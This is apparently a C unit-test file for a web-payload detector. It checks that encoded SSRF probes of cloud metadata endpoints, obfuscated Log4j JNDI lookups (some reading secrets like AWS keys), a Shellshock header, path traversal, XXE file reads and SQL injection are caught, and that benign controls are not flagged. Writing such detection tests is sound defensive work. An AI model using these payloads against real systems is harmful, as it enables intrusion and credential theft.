		{"http://0251.0376.0251.0376/", PAYLOAD_SSRF},
		{"http://0xA9.0xFE.0xA9.0xFE/", PAYLOAD_SSRF},
		{"http://[::ffff:a9fe:a9fe]/", PAYLOAD_SSRF},
		{"http://[::ffff:169.254.169.254]/", PAYLOAD_SSRF},
		{"http://instance-data/latest/", PAYLOAD_SSRF},
		{"http://169.254.170.2/v2/credentials", PAYLOAD_SSRF},
		{"http://100.100.100.200/latest/meta-data/", PAYLOAD_SSRF},
		{"http://192.0.0.192/latest/", PAYLOAD_SSRF},
		{"169.254.169.254/latest/meta-data", PAYLOAD_SSRF},
		{"169.254.169.254", PAYLOAD_SSRF},
		{"//169.254.169.254/latest/", PAYLOAD_SSRF},
		{"metadata.google.internal/computeMetadata/v1/", PAYLOAD_SSRF},
		{"[fd00:ec2::254]", PAYLOAD_SSRF},
		{"http://169.254.169.254.nip.io/", PAYLOAD_SSRF},
		{"http://metadata.google.internal./", PAYLOAD_SSRF},
		{"HTTP://169.254.169.254/", PAYLOAD_SSRF},
		{"http://169.254.169.254:80/latest", PAYLOAD_SSRF},
		{"{\"url\": \"http://169.254.169.254/latest/user-data\"}", PAYLOAD_SSRF},
		{"http://localtest.me/", PAYLOAD_SSRF},
		/* benign */
		{"https://api.example.com/v1/items", N},
		{"10.0.0.1", N},
		{"127.0.0.1", N},
		{"metadata", N},
		{"fields=metadata,name", N},
		{"version 169.254", N},
		{"https://cloud.google.com/compute/docs/metadata/overview", N},
		{"https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html", N},
	};
	run_itable("ssrf", t, sizeof(t) / sizeof(t[0]));
}

#define J PAYLOAD_JNDI

static void test_log4j(void **st)
{
	(void)st;
	static const struct icase t[] = {
		{"${jndi:ldap://x.example/a}", J},
		{"${${lower:j}ndi:ldap://x.example/a}", J},
		{"${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}", J},
		{"${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}", J},
		{"${j${k8s:k5:-ND}i:ldap://x.example/a}", J},
		{"${${upper:j}${upper:n}${lower:d}${lower:i}:ldap://x.example/a}", J},
		{"${jnd${upper:\xc4\xb1}:ldap://x.example/a}", J},
		{"${${lower:jndi}:${lower:rmi}://x.example/a}", J},
		{"${jndi:dns://${env:USER}.x.example}", J},
		{"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}", J},
		{"$%7Bjndi:ldap://x.example/a%7D", J},
		{"${jndi:ldap://127.0.0.1#x.example:1389/a}", J},
		{"${env:AWS_SECRET_ACCESS_KEY}", J},
		{"${sys:java.version}", J},
		{"${java:version}", J},
		{"${${::-j}ndi:ldap://x.example/a", J},
		{"${jn${lower:d}i:l${lower:d}ap://x.example/a}", J},
		{"${j${::-n}di:ldap://x.example/a}", J},
		/* benign */
		{"${HOME}/bin", N},
		{"Total: ${price}", N},
		{"${VAR:-default}", N},
		{"cost is $ {5}", N},
		{"${user.name}", N},
	};
	run_itable("jndi", t, sizeof(t) / sizeof(t[0]));
}

/* where a value sits changes what it means */
static void test_where(void **st)
{
	(void)st;
	struct payload_match m[PAYLOAD__COUNT];
	const char *v = "() { :; }; /bin/cat /etc/passwd";
	int n = payload_scan(v, strlen(v), PAYLOAD_WHERE_HEADER, m, PAYLOAD__COUNT), hit = 0;
	for (int i = 0; i < n; i++)
		hit |= m[i].kind == PAYLOAD_SHELLSHOCK;
	assert_true(hit);
	/* a request path that climbs past its root */
	v = "/static/..%2f..%2f..%2fetc/passwd";
	n = payload_scan(v, strlen(v), PAYLOAD_WHERE_PATH, m, PAYLOAD__COUNT);
	assert_true(n >= 1);
	assert_int_equal(m[0].kind, PAYLOAD_TRAVERSAL);
	/* a step that stays under the root is a link's; tomcat's "..;/"
	 * is written to get past a proxy, so it is judged (helper F) */
	v = "/api/files/../admin";
	n = payload_scan(v, strlen(v), PAYLOAD_WHERE_PATH, m, PAYLOAD__COUNT);
	assert_int_equal(n, 0);
	v = "/api/files/..;/admin";
	n = payload_scan(v, strlen(v), PAYLOAD_WHERE_PATH, m, PAYLOAD__COUNT);
	assert_true(n >= 1);
	assert_int_equal(m[0].kind, PAYLOAD_TRAVERSAL);
	/* XML bodies: the prolog is judged whole, the text as values */
	v = "<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n <!ENTITY x SYSTEM \"file:///etc/passwd\">\n]>\n<r>&x;</r>";
	n = payload_scan_xml(v, strlen(v), m, PAYLOAD__COUNT);
	assert_true(n >= 1);
	assert_int_equal(m[0].kind, PAYLOAD_XXE);
	v = "<order><id>42</id><note>cats &amp; dogs; birds</note><item sku=\"A-1\">Rock &amp; Roll</item></order>";
	assert_int_equal(payload_scan_xml(v, strlen(v), m, PAYLOAD__COUNT), 0);
	v = "<order><note>x' union select password from users--</note></order>";
	n = payload_scan_xml(v, strlen(v), m, PAYLOAD__COUNT);
	assert_true(n >= 1);
	assert_int_equal(m[0].kind, PAYLOAD_SQLI);
	v = "<q a=\"../../../etc/passwd\"/>";
	n = payload_scan_xml(v, strlen(v), m, PAYLOAD__COUNT);
	assert_true(n >= 1);
	assert_int_equal(m[0].kind, PAYLOAD_TRAVERSAL);
}

static enum payload_kind kind_named(const char *s, size_t l)
{
	for (int k = 1; k < PAYLOAD__COUNT; k++)
		if (strlen(payload_kind_names[k]) == l && !memcmp(payload_kind_names[k], s, l))
			return (enum payload_kind)k;
	return PAYLOAD_NONE;
}

/* tests/data/attacks-data.txt: every line draws its kind */
static void test_attack_file(void **st)
{
	FILE *f = fopen("tests/data/attacks-data.txt", "r");
	char line[8192];
	int total = 0, own = 0;

	(void)st;
	assert_non_null(f);
	while (fgets(line, sizeof(line), f)) {
		size_t l = strlen(line);
		char *tab = strchr(line, '\t');
		int score;
		const char *why;
		enum payload_kind k;

		while (l && (line[l - 1] == '\n' || line[l - 1] == '\r'))
			line[--l] = '\0';
		if (!l || line[0] == '#')
			continue;
		assert_non_null(tab);
		k = kind_named(line, (size_t)(tab - line));
		assert_int_not_equal(k, PAYLOAD_NONE);
		total++;
		if ((kinds_of(tab + 1, &score, &why) >> k) & 1)
			own++;
		else
			fprintf(stderr, "  FAIL %s missed: [%s] (%d) %s\n", payload_kind_names[k], tab + 1,
				score, why);
	}
	fclose(f);
	if (getenv("SW_SHOW_RATES"))
		printf("  RATE attacks-data.txt %d/%d own kind\n", own, total);
	assert_true(total >= 200);
	assert_int_equal(own, total);
}

/* the benign corpus sent as form fields: decoded as a server decodes */
static void test_benign_as_form(void **st)
{
	FILE *f = fopen("tests/data/benign.txt", "r");
	char line[8192];
	int total = 0, bad = 0;

	(void)st;
	assert_non_null(f);
	while (fgets(line, sizeof(line), f)) {
		size_t l = strlen(line);
		int score;
		const char *why;

		while (l && (line[l - 1] == '\n' || line[l - 1] == '\r'))
			line[--l] = '\0';
		if (!l)
			continue;
		total++;
		if (kinds_of(line, &score, &why)) {
			bad++;
			fprintf(stderr, "  false positive (%d) %s: %s\n", score, why, line);
		}
	}
	fclose(f);
	assert_true(total >= 1900);
	assert_int_equal(bad, 0);
}

static void test_names(void **st)
{
	(void)st;
	assert_string_equal(payload_kind_names[PAYLOAD_XXE], "xxe");
	assert_string_equal(payload_kind_names[PAYLOAD_NOSQLI], "nosqli");
	assert_string_equal(payload_kind_names[PAYLOAD_PROTO_POLLUTION], "proto_pollution");
	assert_string_equal(payload_kind_names[PAYLOAD_SHELLSHOCK], "shellshock");
	for (int k = 1; k < PAYLOAD__COUNT; k++)
		assert_non_null(payload_kind_names[k]);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_traversal_encodings),
		cmocka_unit_test(test_cmdi_grammar),
		cmocka_unit_test(test_shellshock),
		cmocka_unit_test(test_xxe),
		cmocka_unit_test(test_nosqli),
		cmocka_unit_test(test_nosqli_keys),
		cmocka_unit_test(test_proto_pollution),
		cmocka_unit_test(test_ssrf_metadata),
		cmocka_unit_test(test_log4j),
		cmocka_unit_test(test_where),
		cmocka_unit_test(test_attack_file),
		cmocka_unit_test(test_benign_as_form),
		cmocka_unit_test(test_names),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
